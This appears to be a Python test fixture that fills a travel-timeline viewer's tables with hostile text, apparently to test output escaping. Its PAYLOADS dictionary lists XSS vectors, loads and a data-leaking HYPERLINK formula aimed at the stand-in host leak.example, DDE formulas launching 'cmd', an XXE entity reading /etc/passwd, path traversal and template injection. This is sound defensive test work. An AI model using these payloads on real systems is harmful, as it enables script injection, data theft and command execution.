"""Texts that want to be more than text, and tables that hold them wherever a text can stand."""

from __future__ import annotations

from datetime import date, timedelta
from typing import Any

from pipeline.model import Status
from tests.unit.viewer.sample_tables import sample_rows

TRIP = "trip-hostile"

# Whatever runs leaves its mark in `window.harm`; whatever loads asks for a file of leak.example.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.harm=1</script>",
    "script from elsewhere": "<script src=https://leak.example/a.js></script>",
    "end of script": "</script><script>window.harm=2</script>",
    "end of style": "</style><script>window.harm=3</script>",
    "end of title": "</title><script>window.harm=4</script>",
    "end of textarea": "</textarea></noscript></template><script>window.harm=5</script>",
    "script in a comment": "<!--<script>--><script>window.harm=6</script>",
    "open comment": "<!-- and nothing after it is seen",
    "image": "<img src=x onerror=window.harm=7>",
    "quoted image": "\"><img src='https://leak.example/b.png' onerror='window.harm=8'>",
    "image set": "<picture><source srcset=https://leak.example/c.png><img></picture>",
    "svg": "<svg onload=window.harm=9><use href='https://leak.example/d.svg#a'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.harm=10>",
    "focus": "<input autofocus onfocus=window.harm=11>",
    "details": "<details open ontoggle=window.harm=12>",
    "animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=harm=13>",
    "frame": "<iframe srcdoc='<script>parent.harm=14</script>'></iframe>",
    "object": "<object data=javascript:window.harm=15></object><embed src=https://leak.example/e>",
    "form": "<form action=https://leak.example/f><button autofocus>Go on</button></form>",
    "base": "<base href=https://leak.example/><link rel=stylesheet href=g.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://leak.example/h'>",
    "attribute": "' onmouseover='window.harm=16' x='",
    "double attribute": '" onfocus="window.harm=17" autofocus tabindex="0" x="',
    "style": "red;background:url(https://leak.example/i.png)}body{display:none}",
    "entities": "&lt;script&gt;window.harm=18&lt;/script&gt; &amp;lt; &#60;b&#62; &copy",
    "javascript address": "javascript:window.harm=19",
    "javascript address in disguise": " \tJaVa\nScRiPt:window.harm=20//",
    "data address": "data:text/html,<script>window.harm=21</script>",
    "address with a line break": "https://news.example/a\r\nATTENDEE:mailto:x@leak.example",
    "address that turns": "https://news.example/\u202elmth.kcatta",
    "address with quotes": "https://news.example/'onclick='window.harm=22'\"><b>",
    "template literal": "${window.harm=23} `${window.harm=24}` \\`",
    "jinja": "{{ 7*7 }} {{ ''.__class__.__mro__ }} {% raw %}{% include 'x' %}{# gone #}",
    "end of jinja": "{% endraw %}{{ config }}{% endmacro %} {{{%",
    "angular": "{{constructor.constructor('window.harm=25')()}}",
    "string end": "'];window.harm=26;['\\\";window.harm=27;//",
    "backslashes": "C:\\Users\\new \\u003cscript\\u003e \\x3c \\N \\n \\",
    "separators of lines": "one\u2028window.harm=28\u2029two\x85three",
    "markdown": "**bold** [now](javascript:window.harm=29) ![i](https://leak.example/j) :smile:",
    "markdown code": "```html\n<b>x</b>\n``` $\\href{javascript:window.harm=30}{x}$ :red[x] ~~x~~",
    "end of cdata": "]]><script>window.harm=31</script><![CDATA[",
    "cdata": "<![CDATA[<script>window.harm=32</script>]]>",
    "kml": "</name><NetworkLink><Link><href>https://leak.example/k.kml</href></Link></NetworkLink>",
    "kml balloon": "$[description] $[name] <a href='javascript:window.harm=33'>x</a>",
    "entity of xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x> <?xml?>",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged\r\nEND:VEVENT",
    "calendar with a bare return": "x\rATTENDEE;CN=forged:mailto:x@leak.example",
    "calendar signs": "a;b,c:d\\;e\\,f\\nb \"q\" ^n 'r' DTSTART;VALUE=DATE:20000101",
    "calendar folding": "y" * 74 + "\r\n ATTACH:https://leak.example/l",
    "csv": 'x","y"\r\n"=1+1",z;=2+2\t=3+3',
    "formula": '=HYPERLINK("https://leak.example/m?"&A1,"Click")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula in disguise": "\ufeff\u200b =1+1",
    "formula of wide signs": "＝1+1",
    "direction": "\u202eright to left\u202c \u2066isolated\u2069 \u200fmark \u2067open",
    "direction left open": "\u202e\u202d\u202b\u2067 never closed",
    "nul": "nul \x00 inside\x00",
    "controls": "bell \x07 escape \x1b[31m delete \x7f vertical \x0b form \x0c",
    "no characters": "\ufffe \uffff \U0001ffff \ufdd0 \ue000",
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "stacked marks": "L" + "\u0301\u0323" * 200 + "ima",
    "long word": "Llanfair" * 400,
    "nothing but space": " \t\u00a0\u2003 ",
    "prototype": "__proto__",
    "namibia": "NA",
    "not a number": "NaN null None undefined -Infinity",
    "path": "../../../../etc/passwd\\..\\..\\x",
}
# No table can hold these: half a character, as a faulty JSON file may spell it.
SURROGATES = ("\ud800", "a\udfffb", "\udc00\ud800")

_STATUSES = tuple(Status)
_FIRST = date(2018, 1, 1)
_NO_TEXTS = {"trip_id", "stop_id", "article_id", "language", "country_code", "home_country_code"}
_CODES = {"stop_kind", "role_class", "place_kind", "status", "cancel_kind", "date_precision"}
_CODES |= {"date_basis", "published_precision", "published_basis", "state"}


def hostile_rows() -> dict[str, list[dict[str, Any]]]:
    """Rows of all tables: a trip with a stop for each text, and a trip of one stop for each.

    A text stands in every column that holds texts of articles; the traveller of the long trip is
    all of them in a row.
    """
    base = {name: rows[0] for name, rows in sample_rows().items()}
    everything = " ".join(PAYLOADS.values())
    found: dict[str, list[dict[str, Any]]] = {name: [] for name in base}
    for index, text in enumerate(PAYLOADS.values()):
        article = _article(index)
        stop = _stop(base["timeline"], index, text) | {"traveller": everything}
        own = stop | {"trip_id": f"trip-{index}", "stop_id": f"own-{index}", "sequence": 1}
        found["timeline"] += [stop, own | {"traveller": text}]
        for stop_id in (stop["stop_id"], own["stop_id"]):
            claim = _filled(base["evidence"], text) | {"start": 0, "end": len(text)}
            found["evidence"].append(claim | {"stop_id": stop_id, "article_id": article})
        mention = _filled(base["mentions"], text) | {"start": 0, "end": len(text)}
        found["mentions"].append(mention | {"article_id": article, "stop_id": ""})
        row = _filled(base["articles"], text) | {"article_id": article, "same_as": ""}
        again = {"article_id": f"{article}/again", "same_as": article, "state": "duplicate"}
        found["articles"] += [row, row | again]
    found["timeline"].sort(key=lambda row: (row["trip_id"], row["sequence"]))
    return found


def hostile_texts() -> dict[str, str]:
    """The texts of the articles, each one of the payloads."""
    return {_article(index): text for index, text in enumerate(PAYLOADS.values())}


def _article(index: int) -> str:
    return f"hostile/{index:02}"


def _stop(base: dict[str, Any], index: int, text: str) -> dict[str, Any]:
    arrival = _FIRST + timedelta(days=index)
    status = _STATUSES[index % len(_STATUSES)]
    return _filled(base, text) | {
        "trip_id": TRIP,
        "sequence": index + 1,
        "stop_id": f"stop-{index:02}",
        "stop_kind": "stop",
        "country_code": "NA",
        "latitude": float(index * 37 % 120 - 50),
        "longitude": float(index * 67 % 360 - 180),
        "status": str(status),
        "cancel_kind": "postponed" if status is Status.CANCELLED else "",
        "arrival": arrival,
        "departure": arrival + timedelta(days=1),
        "date_precision": "day",
        "days": 2,
        "leg_km": 100,
    }


def _filled(row: dict[str, Any], text: str) -> dict[str, Any]:
    kept = _NO_TEXTS | _CODES
    return {
        name: text if isinstance(value, str) and name not in kept else value
        for name, value in row.items()
    }
